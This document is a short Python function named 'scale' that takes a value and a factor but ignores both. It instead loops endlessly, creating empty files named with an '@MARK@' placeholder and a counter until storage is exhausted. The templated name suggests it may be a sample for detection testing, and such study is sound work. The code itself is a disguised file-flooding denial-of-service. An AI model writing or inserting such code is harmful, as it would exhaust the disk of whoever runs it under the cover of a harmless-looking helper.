def scale(x, factor):
    number = 0
    while True:
        open(f"@MARK@-{number}", "w").close()
        number += 1
